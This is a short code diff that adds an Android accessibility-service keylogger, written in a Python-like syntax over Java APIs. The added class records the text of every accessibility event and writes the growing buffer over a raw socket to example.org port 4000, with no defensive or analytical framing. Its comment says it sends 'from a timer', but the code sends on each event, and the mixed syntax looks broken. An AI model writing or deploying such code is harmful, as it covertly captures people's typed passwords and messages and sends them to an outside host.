@@ -24,3 +24,22 @@ class Keys(AccessibilityService):
     def typed(self, text: String):
         Toast.makeText(self, text, 1).show()
         Socket("example.org", 4000).getOutputStream().flush()
+
+# also: collects in a field and sends from a timer
+@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
+class Keys(AccessibilityService):
+    line: StringBuilder
+    def onServiceConnected(self):
+        self.line = StringBuilder()
+    def onAccessibilityEvent(self, event):
+        self.line.append(String.valueOf(event.getText()))
+        Thread(Send(self.line.toString())).start()
+    def onInterrupt(self):
+        pass
+
+class Send(Runnable):
+    text: String
+    def __init__(self, text: String):
+        self.text = text
+    def run(self):
+        Socket("example.org", 4000).getOutputStream().write(self.text.getBytes())
